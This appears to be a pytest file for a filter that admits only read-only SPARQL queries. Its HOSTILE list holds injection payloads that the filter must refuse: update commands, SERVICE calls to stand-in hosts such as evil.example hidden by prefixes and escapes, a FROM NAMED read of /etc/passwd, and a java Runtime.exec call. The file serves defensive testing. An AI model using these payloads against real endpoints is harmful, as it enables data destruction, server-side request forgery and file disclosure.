"""Free queries: what reads is let through, and nothing else, however it is written."""

from contextlib import suppress

import pyoxigraph
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.exceptions import QueryError
from pipelines.model.parsing.sparql_tokens import Kind, tokens
from pipelines.wikibase.free_queries import LONGEST, admit
from pipelines.wikibase.queries import all_queries
from tests.wikibase.samples import HOME

GOOD = {
    "plain": "SELECT * WHERE { ?s ?p ?o }",
    "words in a string": 'SELECT * { ?s ?p "} INSERT DATA { SERVICE <http://evil.example/> { # " }',
    "words in long strings": 'SELECT * { ?s ?p \'\'\'it\'s "fine" SERVICE\'\'\' , """say ""quote"" DROP""" }',
    "words in a comment": "SELECT * { ?s ?p ?o # SERVICE <http://evil.example/> { }\n}",
    "words in an IRI": "SELECT * { ?s <http://example.org/SERVICE#INSERT> ?o }",
    "words as variables": "SELECT ?insert $service WHERE { ?insert ?load $service }",
    "words as names": "PREFIX ex: <http://example.org/>\nSELECT * { ex:SERVICE ex:insert ex:a.b }",
    "the label service": (
        "SELECT ?x ?xLabel { ?x wdt:P31 wd:Q5 SERVICE wikibase:label { bd:serviceParam wikibase:language 'en' } }"
    ),
    "the label service by IRI": "SELECT * { ?x ?p ?o . SERVICE <http://wikiba.se/ontology#label> { } }",
    "a named subquery": "SELECT * WITH { SELECT ?x { ?x ?p ?o } LIMIT 3 } AS %some WHERE { INCLUDE %some }",
    "letters beyond ASCII": 'SELECT ?größe { ?größe ?p "Çelebi", "\\u00e9\\t\\\\" }',
    "comparison": "SELECT * { ?a ?b ?c . FILTER(?a<?b && ?c>3 || ?a!=?b) }",
    "values behind": "SELECT * { ?s ?p ?o } VALUES ?s { <http://example.org/a> UNDEF }",
}
HOSTILE = {
    "update": "INSERT DATA { <a:a> <a:b> <a:c> }",
    "update after a prologue": "PREFIX x: <http://x/>\nDELETE WHERE { ?s ?p ?o }",
    "update after a query": "SELECT * { ?s ?p ?o } ; DROP ALL",
    "update in any case": "select * { ?s ?p ?o } ; cLeAr ALL",
    "load": "LOAD <http://127.0.0.1/> INTO GRAPH <a:g>",
    "another host": "SELECT * { SERVICE <http://127.0.0.1:8000/> { ?s ?p ?o } }",
    "another host, quietly": "SELECT * { SERVICE SILENT <http://evil.example/> { ?s ?p ?o } }",
    "another host by a variable": "SELECT * { VALUES ?h { <http://evil.example/> } SERVICE ?h { ?s ?p ?o } }",
    "another host by a prefix": "PREFIX wikibase: <http://e.ex/>\nSELECT * { SERVICE wikibase:label { ?s ?p ?o } }",
    "another host by a second prefix": (
        "PREFIX wikibase: <http://wikiba.se/ontology#> PREFIX wikibase: <http://evil.example/>\n"
        "SELECT * { SERVICE wikibase:label { ?s ?p ?o } }"
    ),
    "another host by a base": "BASE <http://evil.example/>\nSELECT * { SERVICE <label> { ?s ?p ?o } }",
    "another host behind a comment": "SELECT * { SERVICE # wikibase:label {\n<http://evil.example/> { ?s ?p ?o } }",
    "another host, glued": "PREFIX : <http://evil.example/>\nSELECT * { SERVICE:x { ?s ?p ?o } }",
    "another host, glued to a name": "SELECT * { SERVICEwikibase:label { ?s ?p ?o } }",
    "another host after a name": "SELECT * { ?s ?p wd:Q1.SERVICE <http://evil.example/> { ?a ?b ?c } }",
    "another host in a subquery": "SELECT * { { SELECT * { SERVICE <http://evil.example/> { ?s ?p ?o } } } }",
    "another host in a named subquery": (
        "SELECT * WITH { SELECT * { SERVICE <http://e.example/> { ?s ?p ?o } } } AS %x { INCLUDE %x }"
    ),
    "another host in a condition": "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE <http://e.example/> { ?s ?p ?o } } }",
    "other services of the target": "SELECT * { SERVICE wikibase:mwapi { } }",
    "escaped keyword": "SELECT * { \\u0053ERVICE <http://evil.example/> { ?s ?p ?o } }",
    "escaped quotation mark": 'SELECT * { ?s ?p "\\u0022 . SERVICE <http://evil.example/> { ?a ?b \\u0022c" } }',
    "escaped mark, long": 'SELECT * { ?s ?p "\\U00000022 } SERVICE <http://evil.example/> {" }',
    "escaped IRI": "SELECT * { ?s <http://a\\u003e> ?o }",
    "half a character": 'SELECT * { ?s ?p "\\uD800" }',
    "long s in a keyword": "SELECT * { \u017fERVICE <http://evil.example/> { ?s ?p ?o } }",
    "other graphs": "SELECT * FROM <http://127.0.0.1/> { ?s ?p ?o }",
    "named graphs": "SELECT * FROM NAMED <file:///etc/passwd> { GRAPH ?g { ?s ?p ?o } }",
    "the server's own code": "SELECT * { ?s ?p ?o FILTER(<java:java.lang.Runtime.exec>(?o)) }",
    "ask": "ASK { ?s ?p ?o }",
    "describe": "DESCRIBE <http://example.org/a>",
    "construct": "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "an open string": 'SELECT * { ?s ?p "open }',
    "a string over lines": 'SELECT * { ?s ?p "one\ntwo" }',
    "an open bracket": "SELECT * { ?s ?p ?o",
    "a bracket too many": "SELECT * { ?s ?p ?o } }",
    "crossed brackets": "SELECT * { ?s ?p ( ?o } )",
    "a limit in words": "SELECT * { ?s ?p ?o } LIMIT ?n",
    "a limit that is no number of ours": "SELECT * { ?s ?p ?o } LIMIT ²",
    "an endless limit": f"SELECT * {{ ?s ?p ?o }} LIMIT {'9' * 5000}",
    "a prologue inside": "SELECT * { PREFIX wikibase: <http://evil.example/> ?s ?p ?o }",
    "half a prologue": "PREFIX wikibase:",
    "NUL": "SELECT * { ?s ?p '\0' }",
    "nothing": "  # only talk\n",
    "a book": "SELECT * { ?s ?p '" + "x" * LONGEST + "' }",
}


@pytest.mark.parametrize("name", GOOD)
def test_a_query_that_only_reads_is_let_through(name: str) -> None:
    sent = admit(GOOD[name], 10)
    assert "LIMIT 11" in sent


@pytest.mark.parametrize("name", HOSTILE)
def test_anything_else_is_refused_with_a_remedy(name: str) -> None:
    with pytest.raises(QueryError) as refused:
        admit(HOSTILE[name], 10)
    assert refused.value.remedy


def test_line_and_column_are_told() -> None:
    with pytest.raises(QueryError, match="line 2, column 3: the word 'INSERT'"):
        admit("SELECT * {\n  INSERT }", 10)


@pytest.mark.parametrize(
    ("text", "limits"),
    [
        ("SELECT * { ?s ?p ?o } LIMIT 3", ["3"]),
        ("SELECT * { ?s ?p ?o } LIMIT 9999", ["11"]),
        ("SELECT * { { SELECT * { ?s ?p ?o } LIMIT 99 } }", ["99", "11"]),
        ("SELECT * { ?s ?p ?o } ORDER BY ?s LIMIT 500 OFFSET 2", ["11"]),
        ("SELECT * { ?s ?p ?o } # LIMIT 5", ["11"]),
        ("SELECT * { ?s ?p ?o } VALUES ?s { <a:b> }", ["11"]),
    ],
)
def test_the_outermost_limit_is_set_or_lowered(text: str, limits: list[str]) -> None:
    sent = admit(text, 10)
    words = [token.text for token in tokens(sent) if token.kind is not Kind.SPACE]
    assert [words[place + 1] for place, word in enumerate(words) if word == "LIMIT"] == limits
    assert isinstance(pyoxigraph.Store().query(sent), pyoxigraph.QuerySolutions)


def test_comments_are_not_sent() -> None:
    assert "secret" not in admit("SELECT * { ?s ?p ?o } # secret", 10)


def test_what_one_parser_takes_for_a_comment_is_not_sent_to_another() -> None:
    assert "SERVICE" not in admit("SELECT * { ?s <http://a #> ?o SERVICE <http://evil.example/> { ?a ?b ?c }\n}", 10)


def test_the_catalogue_itself_is_let_through() -> None:
    for query in all_queries(HOME):
        if "CONSTRUCT" not in query.text:
            admit(query.text, 10)


@given(st.text(alphabet=st.sampled_from(list("SERVICE<>{}\"'\\#?:. a\n/u0"))))
def test_no_text_that_oxigraph_reads_as_a_service_is_let_through(middle: str) -> None:
    text = f"SELECT * {{ ?s ?p ?o . {middle} SERVICE <http://127.0.0.1:9/> {{ ?a ?b ?c }} }}"
    try:
        sent = admit(text, 10)
    except QueryError:
        return
    # Port 9 is one that Oxigraph never asks, so a service that is left would be an error.
    store = pyoxigraph.Store()
    store.add(pyoxigraph.Quad(*[pyoxigraph.NamedNode("a:a")] * 3))
    with suppress(SyntaxError):
        list(store.query(sent))  # type: ignore[arg-type]
